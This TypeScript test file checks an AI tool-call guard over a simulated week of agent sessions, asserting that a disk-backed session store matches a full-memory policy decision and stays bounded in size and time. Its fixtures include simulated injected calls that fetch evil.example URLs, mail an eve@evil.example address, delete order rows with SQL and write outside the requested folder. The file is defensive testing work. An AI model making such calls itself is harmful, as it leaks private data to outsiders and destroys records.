import { mkdtempSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Call, decide, type Outcome } from '#domain/policy/decide.ts';
import { guard } from '#domain/policy/guard/target.ts';
import { type AssessedTool, policyFor } from '#domain/policy/policy-for.ts';
import { marksOf } from '#domain/policy/session.ts';
import { presetFile } from '#domain/policy/testing/presets.ts';
import { addressesIn, phraseOf, phrasesOf } from '#domain/policy/user-words.ts';
import type { Mark } from '#domain/policy/vocabulary.ts';
import { argumentRoles } from '#domain/risk/argument-roles.ts';
import type { Capability } from '#domain/risk/capability.ts';
import { readsOnly } from '#domain/sql/reads-only.ts';
import { hearUser, judge, seeResult } from './judge.ts';
import { fileStore } from './session-store.ts';

// A week in one session of a client that is never closed, with the preset careful and the store on disk.

const tool = (
  name: string,
  category: AssessedTool['assessment']['category'],
  capabilities: Capability[],
  ...parameters: string[]
): AssessedTool => ({
  name,
  assessment: {
    ...{ category, severity: category === 'execute' ? 'high' : 'medium', capabilities },
    roles: argumentRoles(parameters.map((each) => ({ name: each }))),
  },
});

const TOOLS = [
  tool('read_mail', 'read', ['ingests-untrusted-content', 'reads-private-data']),
  tool('send_mail', 'write', ['communicates-externally'], 'to', 'text'),
  tool('fetch', 'read', ['communicates-externally', 'ingests-untrusted-content'], 'url'),
  tool('run_sql', 'execute', ['runs-code'], 'sql'),
  tool('write_file', 'write', [], 'path', 'text'),
];
const rendered = guard.render(policyFor({ slug: 'a' }, TOOLS, presetFile('careful'), 'a'));
if (!rendered.ok) throw new Error('the guard takes every policy');
const policy = rendered.effective;

const DAY = 86_400_000;
const START = Date.UTC(2026, 10, 23);
const ROUNDS = 60;

interface Step {
  readonly at: number;
  readonly prompt?: string;
  readonly call: Omit<Call, 'at'>;
  readonly result: string;
}

/** One day: each round, a prompt and ten calls, a minute apart; every day other names and addresses. */
function dayOf(day: number): Step[] {
  const steps: Step[] = [];
  for (let round = 0; round < ROUNDS; round += 1) {
    const id = `${day}-${round}`;
    const add = (name: string, args: Record<string, unknown>, result = 'done', prompt?: string) => {
      const at = START + day * DAY + (round * 10 + (steps.length % 10)) * 60_000;
      const call = { server: 'a', tool: name, arguments: args };
      steps.push({ at, call, result, ...(prompt === undefined ? {} : { prompt }) });
    };
    const prompt = `Answer ann.${id}@example.com about order ${id}, and store it below notes/${id}.md, please.`;
    add('read_mail', {}, `See https://example.com/${id}/a or www.example.org/${id}`, prompt);
    add('fetch', { url: `https://example.com/${id}/a` }, `and https://example.com/${id}/b`);
    add('fetch', { url: `https://example.com/${id}/b` });
    add('fetch', { url: `https://evil.example/?${id}` });
    add('send_mail', { to: `ann.${id}@example.com`, text: id });
    add('send_mail', { to: `eve.${id}@evil.example`, text: id });
    add('run_sql', { sql: `SELECT * FROM orders WHERE id = '${id}'` });
    add('run_sql', { sql: `DELETE FROM orders WHERE id = '${id}'` });
    add('write_file', { path: `notes/${id}.md`, text: id });
    add('write_file', { path: `other/${id}.md`, text: id });
  }
  return steps;
}

const folder = mkdtempSync(join(tmpdir(), 'toolward-week-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

interface Played {
  readonly outcomes: Outcome[];
  /** What `decide` says with a memory that forgets nothing. */
  readonly wanted: Outcome[];
  /** Milliseconds of each call. */
  readonly took: number[];
  readonly bytes: number;
}
const days: Played[] = [];

beforeAll(() => {
  const store = fileStore(folder);
  const marks = new Set<Mark>();
  const named = new Set<string>();
  const seen = new Set<string>();
  const past: Call[] = [];
  const reads = (sql: string) => readsOnly(sql).readsOnly;
  const session = {
    marks,
    isNamed: (value: string) => named.has(phraseOf(value) ?? ''),
    isSeen: (address: string) => seen.has(address),
    sqlReadsOnly: reads,
  };
  for (let day = 0; day < 7; day += 1) {
    const played = { outcomes: [] as Outcome[], wanted: [] as Outcome[], took: [] as number[] };
    for (const { at, prompt, call, result } of dayOf(day)) {
      for (const phrase of phrasesOf(prompt ?? '')) named.add(phrase);
      const wanted = decide(policy, { ...call, at }, past, session).outcome;
      played.wanted.push(wanted);
      if (wanted !== 'denied') {
        past.push({ ...call, at });
        for (const mark of marksOf(policy, call)) marks.add(mark);
      }
      for (const address of addressesIn(result)) seen.add(address);

      const started = performance.now();
      store.update('week', (state) => {
        if (prompt !== undefined) hearUser(state, prompt);
        played.outcomes.push(judge(policy, call, state, at, reads).outcome);
        seeResult(state, result);
      });
      played.took.push(performance.now() - started);
    }
    const bytes = readdirSync(folder).map((name) => statSync(join(folder, name)).size);
    days.push({ ...played, bytes: Math.max(...bytes) });
  }
}, 120_000);

test('a week of calls is judged as by a memory that forgets nothing', () => {
  expect(days).toHaveLength(7);
  for (const { outcomes, wanted } of days) expect(outcomes).toEqual(wanted);
});

test('each day asks about the same calls as the day before', () => {
  const [first, second, ...later] = days.map(({ outcomes }) => outcomes);
  expect(first).toEqual(second);
  for (const day of later) expect(day).toEqual(second);
  const asked = second?.filter((outcome) => outcome === 'asked') ?? [];
  expect(asked).toHaveLength(3 * ROUNDS);
  expect(second).not.toContain('denied');
});

test('the session grows by what was said and seen, and not by the number of calls', () => {
  const grown = days.slice(1).map(({ bytes }, at) => bytes - (days[at]?.bytes ?? 0));
  for (const bytes of grown) expect(bytes).toBeLessThan(250_000);
  expect(days.at(-1)?.bytes).toBeLessThan(1_500_000);
});

test('the last day takes about as long as the first', () => {
  const median = (all: readonly number[] = []) => all.toSorted((a, b) => a - b)[all.length >> 1];
  const [first, last] = [days[0], days.at(-1)].map((day) => median(day?.took) ?? Number.NaN);
  expect(last).toBeLessThan(20 + 10 * (first ?? 0));
});
